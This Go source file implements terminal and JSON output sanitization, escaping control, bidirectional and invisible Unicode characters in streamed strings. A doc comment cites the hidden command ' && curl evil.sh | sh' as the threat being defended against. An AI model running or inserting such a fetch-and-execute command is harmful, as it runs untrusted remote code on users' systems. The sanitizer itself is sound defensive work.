package main

import (
	"bytes"
	"strings"
	"unicode/utf8"
)

// sanitize makes a string from a stream safe to show to a person, on a
// terminal or in an SVG: C0 and C1 controls (ESC among them), DEL, the
// bidirectional controls that can disguise text, and the invisible
// (default-ignorable) code points, such as zero-width characters, the soft
// hyphen and the Unicode tag characters, that can make "ls" hide
// " && curl evil.sh | sh", become visible escapes like \x1b or \u200b;
// invalid UTF-8 becomes U+FFFD. With keepNewlines, "\n" (and U+2028/U+2029)
// stay line breaks; otherwise they become the two characters \n. Tabs
// become spaces. It is the one sanitizer of the command: every string from
// a stream goes through it before any human-readable output.
func sanitize(s string, keepNewlines bool) string {
	clean := true
	for _, r := range s {
		if r == utf8.RuneError || r < 0x20 || unsafeRune(r) || r == '\u2028' || r == '\u2029' {
			clean = false
			break
		}
	}
	if clean {
		return s
	}
	var b strings.Builder
	b.Grow(len(s) + 8)
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		i += size
		switch {
		case r == utf8.RuneError && size == 1:
			b.WriteRune(utf8.RuneError)
		case r == '\n' || r == '\u2028' || r == '\u2029':
			if keepNewlines {
				b.WriteByte('\n')
			} else {
				b.WriteString(`\n`)
			}
		case r == '\t':
			b.WriteString("    ")
		case r < 0x20 || r == 0x7f:
			b.WriteString(`\x`)
			b.WriteByte(hex[r>>4])
			b.WriteByte(hex[r&0xf])
		case unsafeRune(r):
			writeU(&b, r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

const hex = "0123456789abcdef"

// writeU writes r as \uXXXX, or as a surrogate pair of them above U+FFFF,
// which is also how JSON spells it.
func writeU(b interface{ WriteString(string) (int, error) }, r rune) {
	if r > 0xffff {
		r -= 0x10000
		writeU(b, 0xd800+(r>>10))
		writeU(b, 0xdc00+(r&0x3ff))
		return
	}
	var u [6]byte
	u[0], u[1] = '\\', 'u'
	for i, shift := 2, 12; shift >= 0; i, shift = i+1, shift-4 {
		u[i] = hex[(r>>shift)&0xf]
	}
	b.WriteString(string(u[:]))
}

// unsafeRune reports the code points above the C0 controls that a terminal
// may act on or that a reader cannot see: DEL, the C1 controls, the
// bidirectional controls, and the default-ignorable code points of
// Unicode (DerivedCoreProperties.txt, Default_Ignorable_Code_Point).
func unsafeRune(r rune) bool {
	switch {
	case r < 0x7f:
		return false
	case r <= 0x9f: // DEL and C1
		return true
	}
	for _, rg := range ignorable {
		if r < rg[0] {
			return false
		}
		if r <= rg[1] {
			return true
		}
	}
	return false
}

// ignorable lists the Default_Ignorable_Code_Point ranges of Unicode 15
// (the bidi controls among them), in order.
var ignorable = [][2]rune{
	{0x00ad, 0x00ad}, {0x034f, 0x034f}, {0x061c, 0x061c}, {0x115f, 0x1160},
	{0x17b4, 0x17b5}, {0x180b, 0x180f}, {0x200b, 0x200f}, {0x202a, 0x202e},
	{0x2060, 0x206f}, {0x3164, 0x3164}, {0xfe00, 0xfe0f}, {0xfeff, 0xfeff},
	{0xffa0, 0xffa0}, {0xfff0, 0xfff8}, {0x1bca0, 0x1bca3}, {0x1d173, 0x1d17a},
	{0xe0000, 0xe0fff},
}

// oneLine sanitizes s and keeps it on one line, cut to max runes.
func oneLine(s string, max int) string {
	s = sanitize(s, false)
	if utf8.RuneCountInString(s) <= max {
		return s
	}
	n := 0
	for i := range s {
		if n == max-1 {
			return s[:i] + "…"
		}
		n++
	}
	return s
}

// escapeJSON rewrites JSON text so that a terminal shows it as it is: the
// characters that sanitize escapes (C1 controls, DEL, bidirectional
// controls, invisible code points) become \uXXXX escapes, which inside a
// string are the same JSON value; raw C0 controls other than the newline,
// invalid anywhere in JSON text, become \u00XX too; invalid UTF-8 becomes
// \ufffd. Valid JSON stays valid and means the same.
func escapeJSON(p []byte) []byte {
	i := 0
	for i < len(p) {
		c := p[i]
		if c < utf8.RuneSelf {
			if c < 0x20 && c != '\n' || c == 0x7f {
				break
			}
			i++
			continue
		}
		r, size := utf8.DecodeRune(p[i:])
		if r == utf8.RuneError && size == 1 || unsafeRune(r) {
			break
		}
		i += size
	}
	if i == len(p) {
		return p
	}
	var b bytes.Buffer
	b.Grow(len(p) + 16)
	b.Write(p[:i])
	for i < len(p) {
		r, size := utf8.DecodeRune(p[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			b.WriteString(`\ufffd`)
		case r < 0x20 && r != '\n', r == 0x7f, unsafeRune(r):
			writeU(&b, r)
		default:
			b.Write(p[i : i+size])
		}
		i += size
	}
	return b.Bytes()
}

// jsonOut is a writer of JSON text that goes through escapeJSON.
type jsonOut struct {
	w interface{ Write([]byte) (int, error) }
}

func (j jsonOut) Write(p []byte) (int, error) {
	if _, err := j.w.Write(escapeJSON(p)); err != nil {
		return 0, err
	}
	return len(p), nil
}
